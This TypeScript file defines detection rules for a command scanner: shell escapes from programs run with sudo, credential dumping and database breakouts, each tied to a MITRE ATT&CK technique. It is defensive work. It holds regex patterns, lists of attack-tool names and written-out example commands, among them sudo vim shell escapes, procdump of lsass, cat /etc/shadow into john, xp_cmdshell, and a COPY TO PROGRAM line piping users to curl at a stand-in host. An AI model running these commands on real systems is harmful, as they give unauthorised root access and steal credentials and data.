import type { Rule } from '../../rule.ts';
import { PRIVILEGE_CHANGE } from '../privilege_change/format.ts';
import { called, pattern, programs } from './call.ts';

const SHELL = String.raw`(?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh(?![\w.-])`;
/** Where what a program is made to start stands, in the language of that program. */
const ESCAPE = [
  String.raw`:?![ \t]{0,2}${SHELL}`,
  String.raw`:(?:shell|terminal|set shell=)`,
  String.raw`(?:system|execute|popen|execvp?|execlp?|os\.\w{4,8})[ \t]?\([ \t]{0,2}[\\"']{1,4}${SHELL}[\\"' \t-]`,
  String.raw`exec=[\\"']{0,3}${SHELL}`,
  String.raw`-exec(?:dir)? ${SHELL}(?= (?:-[ip]|\\?;|["'])|$)`,
  String.raw`-(?:T{1,2}|s|c|i|e|x|qc)[ \t]{0,2}[\\"']{0,3}(?:exec |reset;[ \t]?)?${SHELL}(?=[\\"' \t;]{0,4}(?:#|1>|0<|$|-[ip]\b|/dev/null))`,
  String.raw`spawn ${SHELL}`,
  String.raw`(?:man -P|scp -S)[ \t]{0,2}["']?${SHELL}`,
  String.raw`invoke::=?[ \t]?${SHELL}`,
  String.raw`proxycommand[ =][\\"']{0,3};?${SHELL}`,
  String.raw`\.(?:shell|system) ${SHELL}`,
  String.raw`\\![ \t]{0,2}${SHELL}`,
  String.raw`(?:pager|editor)=[\\"']{0,3}${SHELL}`,
  String.raw` ${SHELL} -p(?=[\s;&|"']|$)`,
  String.raw`(?:py(?:thon)?3?|lua|perl|ruby) import os<60+>(?:exec|system)`,
].join('|');

/** Ways to rights that nobody gave, beside the ones that other rules know. */
export const CALLED_RIGHTS_RULES: readonly Rule[] = [
  called({
    ...PRIVILEGE_CHANGE,
    id: 'shell_from_program',
    severity: 'medium',
    source: 'https://attack.mitre.org/techniques/T1548/',
    within: 180,
    begins: [
      programs(
        'vi vim nvim rvim view ex ed nano pico emacs less more man awk gawk mawk nawk find tar zip rsync git gdb expect script strace ltrace flock taskset nmap tcpdump apt apt-get ssh scp sqlite3 mysql psql pip env xargs watch capsh pkexec openvpn make ftp wget crash dmsetup python python2 python3 perl ruby lua node php tclsh nice ionice timeout stdbuf setarch unshare busybox start-stop-daemon cpulimit journalctl systemctl doas sudo',
      ),
    ],
    needs: [
      pattern(
        `^<150+>(?:${ESCAPE})|^(?:pkexec|doas|sudo) -u[ \\t]?\\\\?["']?#-1|^capsh <40>--(?:gid|uid)=0|^pkexec ${SHELL}`,
      ),
    ],
    refuses: [/docker (?:exec|run)|kubectl exec|--version/i],
    describes: 'A program, mostly one that may run as the administrator, that is made to start a shell.',
    get finds() {
      return [
        "sudo vim -c ':!/bin/sh'",
        'find . -exec /bin/sh -p \\; -quit',
        'sudo awk \'BEGIN {system("/bin/sh")}\'',
        'tar cf /dev/null a --checkpoint=1 --checkpoint-action=exec=/bin/sh',
        'less /etc/profile\n!sh'.replace('\n', ' '),
        "gdb -nx -ex '!sh' -ex quit",
        'sudo git -c core.pager=/bin/sh help',
        "ssh -o ProxyCommand=';sh 0<&2 1>&2' x",
      ];
    },
    get ignores() {
      return [
        "find . -name '*.sh' -exec sh -c 'echo a' \\;",
        'docker exec -it web /bin/bash -i',
        "awk '{print $1}' a.sh",
        'git commit -m "fix sh"',
        'vim script.sh',
        'env FOO=1 bash build.sh',
        "sudo -u postgres psql -c '\\du'",
      ];
    },
  }),
  called({
    ...PRIVILEGE_CHANGE,
    id: 'credentials_dumped',
    source: 'https://attack.mitre.org/techniques/T1003/',
    within: 0,
    begins: [
      [
        `(?<![\\w.$-])(?:${[
          String.raw`reg(?:\.exe)? (?:save|export) ["']?(?:hklm|hkey_local_machine)\\{1,4}(?:sam|security|system)\b`,
          String.raw`(?:procdump\w{0,4}|rundll32|tasklist|get-process|out-minidump|createdump|sqldumper|taskmgr|dumpert|nanodump)(?:\.exe)? <120+>(?:lsass|minidump)`,
          String.raw`ntdsutil(?:\.exe)? <80+>ifm|(?:copy|esentutl|robocopy|xcopy|cp)(?:\.exe)? <120+>(?:ntds\.dit|config\\{1,4}(?:sam|system|security)\b)|vaultcmd(?:\.exe)? /list|cmdkey(?:\.exe)? /list<80+>runas`,
          String.raw`(?:gcore|gdb) <60>(?:pidof|pgrep|sshd|-p[ \t]{0,2}1\b|ssh-agent|gnome-keyring|dump memory)[^\r\n;|]{0,40}|(?:dd|strings|cat|xxd) <20>/(?:dev/k?mem|proc/(?:kcore|\d{1,7}/mem))\b`,
          String.raw`(?:cat|cp|dd if=|base64|tar|head|install|sudo cat)[ \t]{0,4}<60>/etc/g?shadow(?![\w-])<20>(?:>| /| \./| ~)|(?:john|unshadow|hashcat) <80>(?:shadow|/tmp/|hashes?\b|\.hash)`,
          String.raw`security dump-keychain|sqlite3 <80>TCC\.db`,
        ].join('|')})`,
        'reg save,reg export,reg.exe save,reg.exe export,hklm,hkey_local,lsass,minidump,ntdsutil,ntds.dit,config\\,vaultcmd,cmdkey,gcore,gdb,/dev/,/proc/,shadow,john ,hashcat,keychain,tcc.db',
      ],
      [
        String.raw`mimikatz|sekurlsa|lsadump|pypykatz|lazagne|mimipenguin|invoke-(?:mimikatz|kerberoast|dcsync|bloodhound|sharefinder|powershelltcp)|comsvcs(?:\.dll)?[ ,\t#"']{1,6}(?:minidump|24)|secretsdump|sharphound|rubeus|kerbrute|seatbelt\.exe|linpeas|winpeas|linenum\.sh|pspy(?:32|64)|nopac\b|printnightmare|pwnkit|dirtypipe|dirtycow`,
        'mimikatz,sekurlsa,lsadump,pypykatz,lazagne,mimipenguin,invoke-,comsvcs,secretsdump,sharphound,rubeus,kerbrute,seatbelt,linpeas,winpeas,linenum,pspy,nopac,printnightmare,pwnkit,dirtypipe,dirtycow',
      ],
    ],
    describes: 'Passwords, their hashes or the memory that holds them, taken by a command.',
    get finds() {
      return [
        'reg save HKLM\\SAM C:\\s.hiv',
        'cat /etc/shadow > /tmp/s; john /tmp/s',
        'procdump -ma lsass.exe out.dmp',
        'rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\o.dmp full',
        'gcore -o /tmp/c $(pidof sshd)',
      ];
    },
    get ignores() {
      return [
        'ls -l /etc/shadow',
        'reg query HKLM\\SYSTEM',
        'tasklist /fi "imagename eq node.exe"',
        'gdb ./a.out',
        'dear john /x',
      ];
    },
  }),
  called({
    ...PRIVILEGE_CHANGE,
    id: 'database_leaves_its_bounds',
    source: 'https://attack.mitre.org/techniques/T1190/',
    within: 60,
    begins: [
      [
        `(?:${[
          String.raw`load_file\([^)\r\n]{0,40}?(?:/etc/|/root|/home|/proc|/var/|\.ssh|\\{2,8}|0x2f|0x5c|concat|char\(|wp-config|\.env)`,
          String.raw`pg_(?:read_(?:binary_)?file|ls_dir)\([^)\r\n]{0,60}?(?:/etc|/root|/home|/proc|/var|\.\./)|lo_(?:import|export)\([^)\r\n]{0,60}?/`,
          String.raw`into (?:out|dump)file [^\r\n;]{0,60}?(?:/var/www|htdocs|wwwroot|\.(?:php|jsp|aspx?|so|dll)\b|cron|\.ssh|authorized|/etc/|\\{2,8}[\w.])`,
          String.raw`copy [^;\r\n]{1,200}?(?:to|from) program [\\"'$]{1,4}[^\r\n;]{0,80}?(?:curl|wget|nc\b|bash|sh\b|python|perl|base64|/dev/tcp|powershell)`,
          String.raw`xp_(?:cmdshell|dirtree|fileexist|regwrite|subdirs)|sp_(?:oacreate|execute_external_script)|openrowset\([ \t]{0,2}bulk|sys_(?:exec|eval)\(|soname [\\"']{1,4}[\w./-]{1,60}\.(?:so|dll)`,
          String.raw`utl_(?:http\.request|inaddr\.get|file\.fopen|tcp\.)|dbms_(?:scheduler\.create_job|java|ldap\.init)|httpuritype\(|load data (?:local )?infile [\\"']{1,4}(?:/etc|/root|/home|/proc|c:)|load_extension\(|attach database [\\"']{1,4}/(?:var|etc|home|root)|dblink(?:_connect)?\([^)\r\n]{0,40}?host=`,
        ].join('|')})`,
        'load_file(,pg_read_,pg_ls_dir,lo_import,lo_export,outfile,dumpfile,program,xp_,sp_oacreate,sp_execute,openrowset,sys_exec,sys_eval,soname,utl_,dbms_,httpuritype,infile,load_extension,attach database,dblink',
      ],
    ],
    describes: 'A statement by which a database reads files, runs programs or calls other machines.',
    get finds() {
      return [
        "SELECT LOAD_FILE('/etc/passwd');",
        "SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.x.example\\\\a'));",
        "COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- http://x.example';",
        "EXEC xp_cmdshell 'whoami';",
        "SELECT '<?php ?>' INTO OUTFILE '/var/www/html/a.php'",
      ];
    },
    get ignores() {
      return [
        "COPY orders TO '/tmp/orders.csv' CSV;",
        "SELECT * INTO OUTFILE '/tmp/a.csv' FROM a;",
        "LOAD DATA LOCAL INFILE 'a.csv' INTO TABLE a;",
        "COPY a TO PROGRAM 'gzip > /tmp/a.gz';",
      ];
    },
  }),
];
